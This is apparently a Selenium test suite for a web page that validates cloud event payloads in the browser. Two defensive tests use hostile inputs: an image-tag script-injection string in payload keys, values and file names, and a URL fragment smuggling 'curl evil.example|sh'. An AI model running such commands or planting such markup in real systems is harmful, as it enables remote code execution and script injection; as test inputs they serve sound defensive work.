"""The page "Try it" as its readers use it: with the keyboard, on a phone, with files, and with more than it can show."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from browsing import complaints
from conftest import ROOT
from signalbook.registry import examples
from signalbook.site import recognition_data, try_page
from signalbook.validation.contracts import Request
from signalbook.validation.validator import check_payload
from trying import ASSETS, POLICY

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from selenium.webdriver import Chrome

    from signalbook import Registry
    from signalbook.registry import Event

WEB = ROOT / "web"


@pytest.fixture
def page(window: Chrome, try_site: tuple[Path, str]) -> Iterator[Chrome]:
    """The page, fresh; and a console that has nothing to complain of afterwards."""
    window.get("about:blank")
    window.get(try_site[1])
    yield window
    assert complaints(window) == []


def wait_for(page: Chrome, status: str) -> str:
    """Return what the page's status says as soon as it contains a text."""
    from selenium.webdriver.support.ui import WebDriverWait  # noqa: PLC0415 - only where there is a browser for it

    line = page.find_element("css selector", "[role=status]")
    WebDriverWait(page, 20, 0.05).until(lambda _: status in line.text, f"the status never held {status!r}")
    return line.text


def wait_until(page: Chrome, holds: Callable[[], bool]) -> None:
    """Return as soon as something holds."""
    from selenium.webdriver.support.ui import WebDriverWait  # noqa: PLC0415 - only where there is a browser for it

    WebDriverWait(page, 20, 0.05).until(lambda _: holds())


def write(page: Chrome, text: str) -> None:
    """Put a text into the text area at once, as pasting does."""
    area = page.find_element("id", "try-text")
    page.execute_script(
        "arguments[0].value = arguments[1]; arguments[0].dispatchEvent(new Event('input', { bubbles: true }))",
        area,
        text,
    )


def texts(page: Chrome, selector: str) -> list[str]:
    """Return the texts of some elements of the results."""
    return [element.text for element in page.find_elements("css selector", f".results {selector}")]


def command(page: Chrome) -> str:
    """Return the command that does the same."""
    return page.find_element("css selector", "[data-part=command]").text


def test_typing_is_checked(page: Chrome, try_site: tuple[Path, str]) -> None:
    """What is typed is identified and opened envelope by envelope, and the event links to its page; what is typed on changes the verdict."""
    area = page.find_element("id", "try-text")
    area.send_keys((ROOT / "demo" / "alibaba-state-change-through-mns.json").read_text("utf-8"))
    assert wait_for(page, "valid") == "1 payload: 1 valid"
    steps = [text.split()[0] for text in texts(page, ".chain li")]
    assert steps == ["alibaba/mns-http", "alibaba/cloudmonitor", "alibaba/ecs/instance-state-change"]
    link = page.find_element("css selector", ".results h3 a")
    assert link.get_property("href") == try_site[1].replace("/try/", "/alibaba/ecs/instance-state-change/")
    assert link.text == "Instance state changed · 实例状态改变通知"
    area.send_keys("}")
    assert wait_for(page, "unreadable") == "1 payload: 1 unreadable; 1 error"


def test_the_keyboard_is_enough(page: Chrome) -> None:
    """Examples, the level and the way to a line work without a mouse."""
    from selenium.webdriver import ActionChains, Keys  # noqa: PLC0415

    page.find_element("css selector", "[data-example='1']").send_keys(Keys.ENTER)
    assert wait_for(page, "invalid") == "1 payload: 1 invalid; 1 error"
    page.find_element("id", "try-level").send_keys("t")
    assert wait_for(page, "note") == "1 payload: 1 valid; 1 note"
    page.find_element("css selector", ".findings .line").send_keys(Keys.ENTER)
    ActionChains(page).send_keys("x").perform()
    assert wait_for(page, "unreadable") == "1 payload: 1 unreadable; 1 error"


def test_a_file_is_checked(page: Chrome, try_site: tuple[Path, str]) -> None:
    """A chosen file is checked; a finding says what and where, links to the row of its field and to its rule, and leads to its line; the same as a command is below."""
    file = ROOT / "demo" / "broken" / "jdcloud-wrong-time.json"
    page.find_element("id", "try-file").send_keys(str(file))
    wait_for(page, "1 invalid")
    finding = page.find_element("css selector", ".findings li")
    assert [term.text for term in finding.find_elements("css selector", "dt")] == [
        "expected",
        "found",
        "meaning",
    ]
    assert finding.text.startswith("✗ error /detail/eventTime: wrong type")
    links = [(link.text, link.get_property("href")) for link in finding.find_elements("css selector", "a")]
    assert links == [
        ("about this field", try_site[1].replace("/try/", "/jdcloud/vm/state-change/#f.eventTime")),
        ("type", try_site[1].replace("/catalogue/try/", "/reference/findings/#type")),
    ]
    finding.find_element("css selector", ".line").click()
    selected = page.execute_script(
        "const { value, selectionStart, selectionEnd } = document.activeElement; return value.slice(selectionStart, selectionEnd)"
    )
    assert '"eventTime"' in selected
    page.find_element("id", "try-level").send_keys("s")
    assert command(page) == "signalbook validate jdcloud-wrong-time.json --level strict"


DROP = """
const files = new DataTransfer();
for (const [name, bytes] of arguments[0]) files.items.add(new File([new Uint8Array(bytes)], name));
document.querySelector("form.try").dispatchEvent(new DragEvent("drop", { dataTransfer: files, bubbles: true, cancelable: true }));
"""


def test_dropped_files_are_checked(page: Chrome) -> None:
    """Several files at once, one of them compressed, are dropped and checked, and each verdict says which file it is about."""
    files = [ROOT / "demo" / name for name in ("huawei-config-chunk.json.gz", "batch.json", "mixed.ndjson")]
    page.execute_script(DROP, [(file.name, list(file.read_bytes())) for file in files])
    assert wait_for(page, "valid").endswith("7 payloads: 7 valid; 1 note")
    heads = texts(page, ".verdict .head")
    assert [head.split(" ", 2)[2] for head in heads] == [
        files[0].name,
        *(f"batch.json [{place}]" for place in (0, 1)),
        *(f"mixed.ndjson line {line}" for line in (1, 2, 3, 4)),
    ]


def test_markup_of_a_payload_stays_text(page: Chrome) -> None:
    """Nothing of a payload becomes an element of the page, wherever it stands: as a name, a key, a value, the name of a file."""
    attack = "<img src=x onerror=window.hit=1>"
    payload = json.loads((ROOT / "demo" / "jdcloud-state-change.json").read_bytes())
    payload["detail"] |= {attack: attack, "eventTime": attack}
    unknown = {**payload, "detail": {**payload["detail"], "eventAction": attack}}
    broken = f'{{"{attack}": 1, "{attack}": 2}}'
    text = "\n".join(
        [json.dumps(payload), json.dumps(unknown), json.dumps({attack: attack}), broken, attack]
    ).encode()
    page.execute_script(DROP, [(f"{attack}.ndjson", list(text)), (f"{attack}.json", list(text))])
    wait_for(page, "6 payloads")
    assert sum(attack in shown for shown in texts(page, ".verdict")) == 6
    assert page.execute_script("return [document.images.length, window.hit ?? null]") == [0, None]


def test_thousands_of_lines_leave_the_page_alive(page: Chrome) -> None:
    """Of 5,000 payloads the first 200 are shown and all are counted, and meanwhile the page tells how far it is."""
    valid = json.dumps(json.loads((ROOT / "demo" / "alibaba-state-change-through-mns.json").read_bytes()))
    invalid = valid.replace("Running", "Runing")
    watching = "window.said = []; const line = arguments[0]; new MutationObserver(() => said.push(line.textContent)).observe(line, { childList: true })"
    page.execute_script(watching, page.find_element("css selector", "[role=status]"))
    write(page, "\n".join([valid, invalid] * 2_500))
    assert wait_for(page, "5,000 payloads: ") == "5,000 payloads: 2,500 valid, 2,500 invalid; 2,500 errors"
    assert len(page.find_elements("css selector", ".verdict")) == 200
    assert texts(page, ".more") == ["These are the first 200 of 5,000 payloads."]
    said = page.execute_script("return said")
    assert len([line for line in said if line.startswith("Checking… ")]) > 5
    assert command(page) == "signalbook validate payloads.ndjson"


def test_many_findings_are_counted(page: Chrome) -> None:
    """Of a payload with thousands of faults the first are shown, and the number of the others."""
    payload = json.loads((ROOT / "demo" / "jdcloud-state-change.json").read_bytes())
    payload["detail"] |= {f"unknown{number}": number for number in range(2_000)}
    write(page, json.dumps(payload))
    assert wait_for(page, "warning") == "1 payload: 1 valid; 2,000 warnings"
    assert texts(page, ".findings > .more") == ["and 1,900 more"]


def test_long_names_do_not_overflow(page: Chrome) -> None:
    """On a phone, the longest keys and values stay inside the page."""
    payload = json.loads((ROOT / "demo" / "jdcloud-state-change.json").read_bytes())
    payload["detail"] |= {"k" * 300: "v" * 300, "eventTime": "x" * 300}
    write(page, json.dumps(payload))
    wait_for(page, "1 valid")
    assert (
        page.execute_script(
            "return document.documentElement.scrollWidth - document.documentElement.clientWidth"
        )
        == 0
    )


def test_nothing_is_sent_and_little_is_loaded(page: Chrome, try_site: tuple[Path, str]) -> None:
    """The first view loads a small script and a style; the rest comes when it is needed, from beside the script; and a payload travels nowhere."""
    loaded = "return performance.getEntriesByType('resource').map((entry) => entry.name).filter((name) => !name.startsWith('data:'))"
    assets = try_site[1].replace("/try/", "/assets/")
    assert sorted(page.execute_script(loaded)) == [f"{assets}try.css", f"{assets}try.js"]
    assert sum((ASSETS / name).stat().st_size for name in ("try.css", "try.js")) < 20_000
    page.find_element("css selector", "[data-example='2']").click()
    wait_for(page, "1 invalid")
    assert sorted(page.execute_script(loaded)) == [
        f"{assets}{name}" for name in ("registry.json", "try-engine.js", "try.css", "try.js")
    ]


def test_the_page_says_so_where_its_data_is_missing(page: Chrome, try_site: tuple[Path, str]) -> None:
    """Where the data cannot be loaded, the page says it and names the command; when it is there again, checking works."""
    data = try_site[0] / recognition_data.DATA
    page.execute_cdp_cmd("Network.enable", {})
    page.execute_cdp_cmd("Network.setCacheDisabled", {"cacheDisabled": True})
    hidden = data.rename(data.with_suffix(".gone"))
    try:
        write(page, "{}")
        assert "the catalogue's data could not be loaded: 404" in wait_for(page, "could not be checked")
    finally:
        hidden.rename(data)
        page.execute_cdp_cmd("Network.setCacheDisabled", {"cacheDisabled": False})
    write(page, "{ }")
    assert wait_for(page, "unidentified") == "1 payload: 1 unidentified; 1 error"
    page.get_log("browser")  # type: ignore[no-untyped-call] # the console names the failed request, as it should


def test_the_address_brings_no_command_along(page: Chrome, try_site: tuple[Path, str]) -> None:
    """An address that asks for an event by something that is no id changes nothing, and the page says so."""
    page.get("about:blank")
    page.get(f"{try_site[1]}#event=x;%20curl%20evil.example|sh")
    wait_for(page, "something that is no id")
    assert page.find_element("id", "try-event").get_property("value") == ""
    assert page.find_element("css selector", "[data-part=command]").text == "signalbook validate payload.json"


def test_an_address_can_ask_for_an_example_and_an_event(page: Chrome, try_site: tuple[Path, str]) -> None:
    """A link may lead to the page with an example shown, or with an event to check against."""
    page.get("about:blank")
    page.get(f"{try_site[1]}#event=jdcloud/vm/state-change&example=0")
    wait_for(page, "1 invalid")
    assert texts(page, ".verdict .id") == ["jdcloud/vm/state-change version 1.0.0"]
    assert texts(page, ".chain li:last-child .because") == ["because you asked for it"]
    assert command(page) == "signalbook validate payload.json --event jdcloud/vm/state-change"


def an_event_out_of_date(registry: Registry) -> tuple[Event, str, str]:
    """Return an event, an old version of it, and a delivery that keeps that one and not the newest."""
    for event in registry.events.values():
        for contract in event.oldest_first()[:-1]:
            for value in examples.readable(examples.of(registry, contract, "delivered")):
                if any(
                    one.rule == "out-of-date" and one.contract == str(contract)
                    for one in check_payload(value, registry, Request()).findings
                ):
                    return event, contract.version, json.dumps(value)
    raise AssertionError("every delivery keeps its newest contract")


def test_a_version_can_be_chosen(page: Chrome, registry: Registry) -> None:
    """The versions of an event are offered once it is identified, also by a finding that names one; a choice holds until another event comes, and that is said."""
    event, version, text = an_event_out_of_date(registry)
    newest_first = event.oldest_first()[::-1]
    write(page, text)
    wait_for(page, "1 invalid")
    ends = [None, *(contract.first_seen for contract in newest_first)]
    own = [
        f"{contract.version} (until {end})" if end else contract.version
        for contract, end in zip(newest_first, ends, strict=False)
    ]
    options = page.find_elements("css selector", "#try-version option")
    assert [option.text for option in options] == ["newest", "any", *own]
    page.find_element("css selector", f".findings [data-version='{version}']").click()
    assert wait_for(page, "1 valid") == "1 payload: 1 valid"
    assert page.switch_to.active_element.get_property("id") == "try-version"
    assert command(page) == f"signalbook validate payload.json --version {version}"
    write(page, text[:-1])
    wait_for(page, "unreadable")
    write(page, f"{text}\n{text}")
    assert wait_for(page, "2 payloads") == "2 payloads: 2 valid"
    other = (ROOT / "demo" / "jdcloud-state-change.json").read_text("utf-8")
    write(page, other)
    said = f"1 payload: 1 valid. Checked in the newest version: {version} was chosen for {event.id}."
    assert wait_for(page, "newest version") == said
    assert command(page) == "signalbook validate payload.json"
    write(page, f"{text}\n{json.dumps(json.loads(other))}")
    wait_for(page, "2 payloads")
    options = page.find_elements("css selector", "#try-version option")
    assert ([option.text for option in options], texts(page, "[data-version]")) == (["newest", "any"], [])


CANDIDATES = """
const [bodies, done] = [arguments[0], arguments[1]];
(async () => {
  const kit = (await import("/catalogue/assets/try-engine.js")).kitOf(await (await fetch("/catalogue/assets/registry.json")).json());
  const found = await Promise.all(bodies.map((body) => kit.candidates(body)));
  return found.map((offered) => offered.map(({ event }) => event));
})().then(done, (fault) => done(String(fault.stack)));
"""


def test_a_body_alone_leads_to_its_event(window: Chrome, registry: Registry) -> None:
    """Of a body that no envelope fits, five events at most are offered; its own is among them, or as many others that take it."""
    events = registry.events.values()
    bodies = [
        (event, value)
        for event in events
        for value in examples.readable(examples.of(registry, event.newest, "valid"))
    ]
    lost = [
        (event, value)
        for event, value in bodies
        if check_payload(value, registry, Request()).status == "unidentified"
    ]
    assert len({event.id for event, _ in lost}) > 20
    found = window.execute_async_script(CANDIDATES, [value for _, value in lost])
    assert isinstance(found, list), found
    missed = [
        (event.id, offered)
        for (event, _), offered in zip(lost, found, strict=True)
        if event.id not in offered and len(offered) < 5
    ]
    assert (missed, max(map(len, found))) == ([], 5)


def test_what_nothing_fits_has_a_way_on(page: Chrome) -> None:
    """An object that no envelope fits is offered the events it may be, by its form or by a name in it; a press asks for one."""
    named = {"detail": 1, "text": "about Instance:StateChange, no less"}
    formed = {"resourceId": "i-1", "resourceType": "ALIYUN::ECS::Instance", "state": "Runing"}
    write(page, json.dumps([named, formed, {"a": 1}, 1]))
    assert wait_for(page, "unidentified") == "4 payloads: 4 unidentified; 4 errors"
    wait_until(page, lambda: len(texts(page, ".ways")) == 2)
    assert texts(page, ".ways li") == [
        "check as alibaba/ecs/instance-state-change because /text says 'Instance:StateChange'",
        "check as alibaba/ecs/instance-state-change because it shares 3 fields with the contract and breaks it in 1 place only",
    ]
    write(page, json.dumps(formed))
    wait_for(page, "1 payload")
    wait_until(page, lambda: len(texts(page, ".ways")) == 1)
    page.find_element("css selector", ".ways button").click()
    assert wait_for(page, "invalid") == "1 payload: 1 invalid; 1 error"
    assert command(page) == "signalbook validate payload.json --event alibaba/ecs/instance-state-change"
    assert texts(page, ".chain li") == ["alibaba/ecs/instance-state-change because you asked for it"]


def test_what_was_chosen_for_one_payload_is_not_asked_of_the_next(page: Chrome) -> None:
    """A pressed "check as" goes when an example is pressed: that names its own event; what a person typed there stays."""
    write(page, json.dumps({"resourceId": "i-1", "resourceType": "ALIYUN::ECS::Instance", "state": "Runing"}))
    wait_until(page, lambda: len(texts(page, ".ways")) == 1)
    page.find_element("css selector", ".ways button").click()
    event = "return document.querySelector('[data-part=event]').value"
    wait_until(page, lambda: page.execute_script(event) == "alibaba/ecs/instance-state-change")
    page.execute_script("document.querySelector('[data-example=\"0\"]').click()")
    wait_for(page, "1 valid")
    assert page.execute_script(event) == ""
    page.execute_script(
        "const e = document.querySelector('[data-part=event]'); e.value = 'jdcloud/vm/state-change'; e.dispatchEvent(new Event('input'))"
    )
    page.execute_script("document.querySelector('[data-example=\"0\"]').click()")
    wait_for(page, "1 invalid")
    assert page.execute_script(event) == "jdcloud/vm/state-change"


def test_of_many_nothing_is_guessed(page: Chrome) -> None:
    """Of more than twenty payloads the page does not ask which events they may be."""
    write(page, json.dumps([{"text": "Instance:StateChange"}] * 21))
    wait_for(page, "21 unidentified")
    page.execute_async_script("setTimeout(arguments[0], 300)")
    assert texts(page, ".ways") == []


@pytest.mark.parametrize("number", [2**53 + 1, -(2**53) - 1, 2**63 - 1, 2**64 - 1, 7])
def test_whole_numbers_are_shown_as_they_are(page: Chrome, registry: Registry, number: int) -> None:
    """What a finding shows of a whole number is what the command shows, also where JavaScript would round it."""
    payload = json.loads((ROOT / "demo" / "jdcloud-state-change.json").read_bytes())
    payload["detail"] |= {"eventTime": number, "region": number, "more": number}
    write(page, json.dumps(payload))
    wait_for(page, "1 invalid")
    expected = [finding.found for finding in check_payload(payload, registry, Request()).findings]
    shown = page.execute_script(
        "return [...document.querySelectorAll('.findings dt')].filter((dt) => dt.innerText === 'found').map((dt) => dt.nextSibling.innerText)"
    )
    assert (shown, str(number) in shown) == (expected, True)


def test_a_press_shows_the_result(page: Chrome) -> None:
    """On a phone, the result comes into view when an example is pressed or a file is taken, and not while one types."""
    place = "return [scrollY, document.querySelector('#result').getBoundingClientRect().top]"
    write(page, "{}")
    wait_for(page, "1 unidentified")
    scrolled, top = page.execute_script(place)
    assert (scrolled, top > 480) == (0, True)
    for act in (
        lambda: page.find_element("css selector", "[data-example='0']").click(),
        lambda: page.execute_script(DROP, [("a.json", list(b"[{},{}]"))]),
    ):
        page.execute_script("scrollTo(0, 0)")
        act()
        wait_until(page, lambda: 0 <= page.execute_script(place)[1] < 400)


def test_the_how_to_says_what_the_page_needs() -> None:
    """The how-to about publishing names the one thing that a strict policy must allow; these tests keep that policy."""
    told = (ROOT / "docs" / "how-to" / "publish-the-site.md").read_text("utf-8")
    assert POLICY.split("; ")[1] in told


def test_the_page_reads_without_a_script(registry: Registry) -> None:
    """Without a script the page names the command that does the same; and no script stands inside it."""
    text = try_page.page(registry).decode()
    assert (
        "<noscript><p>This page needs a script. The command does the same without one: <code>signalbook validate payload.json</code>"
        in text
    )
    assert text.count("<script") == text.count('<script type="module" src="../assets/try.js"></script>') == 1


def test_packages_are_pinned_and_free() -> None:
    """Every package from npm is pinned to one version and its sum, names no host, and has a licence that asks nothing of users."""
    wanted = json.loads((WEB / "package.json").read_bytes())
    lock = json.loads((WEB / "package-lock.json").read_bytes())["packages"]
    asked = {**wanted["dependencies"], **wanted["devDependencies"]}
    assert {name: lock[f"node_modules/{name}"]["version"] for name in asked} == asked
    packages = [about for name, about in lock.items() if name]
    assert {about["license"] for about in packages} <= {
        "MIT",
        "BSD-3-Clause",
        "Apache-2.0",
        "MPL-2.0",
        "(MIT AND Zlib)",
    }
    assert all("integrity" in about and "resolved" not in about for about in packages)
